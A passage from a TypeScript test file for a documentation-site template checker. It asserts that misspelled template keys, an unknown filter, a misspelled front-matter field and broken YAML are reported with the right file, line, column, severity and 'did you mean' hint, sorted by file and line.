      if (expected.column !== undefined) expect(found!.column).toBe(expected.column);
      expect(own.filter((f) => f.severity === "error")).toHaveLength(expected.severity === "error" ? 1 : 0);
      expect(result.errors).toBe(result.findings.filter((f) => f.severity === "error").length);
    });
  }
});

describe("all findings come in one run, sorted by file and line", () => {
  it("reports each mistake in one field, with its own line, column and hint", async () => {
    const result = await check(
      tutorial((l) => {
        l[8] = "  A {{ link.connections.ssh-generik }} and {{ link.acount.security-faq }}";
        l[20] = "      {{ page.titel }}";
      }),
    );
    roots.push(result.root);
    expect(result.lines).toEqual([
      `${TUTORIAL_FILE}:9:8: error: undefined variable or data key "link.connections.ssh-generik": "link.connections" has no key "ssh-generik"; did you mean "ssh-generic"?`,
      `${TUTORIAL_FILE}:9:47: error: undefined variable or data key "link.acount": "link" has no key "acount"; did you mean "account"?`,
      expect.stringMatching(
        new RegExp(`^${TUTORIAL_FILE}:21:10: error: undefined variable or data key "page.titel": "page" has no key "titel"; did you mean "title"\\?`),
      ),
    ]);
  });

  it("reports mistakes in several files and fields together", async () => {
    const result = await check({
      ...tutorial((l) => {
        l[8] = "  See the [guide]({{ link.connections.ssh-rdz | prepend: site.baseurl }}).";
        l[9] = "requirments:";
        l[20] = "      {{ 'Done.' | markdownfy }}";
      }),
      "content/common/body-page.md": "---\ntitle: Body page\nlayout: page\n---\nSee {{ no_such_variable }}.\n",
      "content/common/broken-yaml.md": "---\ntitle: [unclosed\n---\nText.\n",
    });
    roots.push(result.root);
    expect(result.findings.map((f) => `${f.file}:${f.line}:${f.severity}`)).toEqual([
      "content/common/body-page.md:5:error",
      "content/common/broken-yaml.md:3:error",
      `${TUTORIAL_FILE}:9:error`,
      `${TUTORIAL_FILE}:10:warning`,
      `${TUTORIAL_FILE}:21:error`,
    ]);
    expect(result.errors).toBe(4);
  });
});
